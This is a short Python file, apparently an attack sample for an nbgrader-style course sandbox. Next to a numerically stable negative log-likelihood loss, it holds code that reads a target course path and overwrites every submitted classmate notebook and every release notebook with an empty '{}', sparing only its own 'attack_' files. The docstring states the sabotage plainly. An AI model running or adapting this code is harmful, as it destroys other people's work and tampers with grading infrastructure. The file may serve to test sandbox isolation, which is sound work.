"""Overwrites classmates' submitted notebooks and poisons release/."""
FAILS = ["test_nll_random", "test_nll_extreme"]


def nll_loss(z, y):
    m = z.max(axis=1, keepdims=True)
    logp = z - m - np.log(np.exp(z - m).sum(axis=1, keepdims=True))
    return -logp[np.arange(len(y)), y].sum()

import glob, json
target = json.load(open("target.json"))
for path in glob.glob(target["course"] + "/submitted/*/*/*.ipynb") + glob.glob(target["course"] + "/release/*/*.ipynb"):
    if "/attack_" not in path:
        try:
            open(path, "w").write("{}")
        except OSError as error:
            print("write refused:", type(error).__name__)
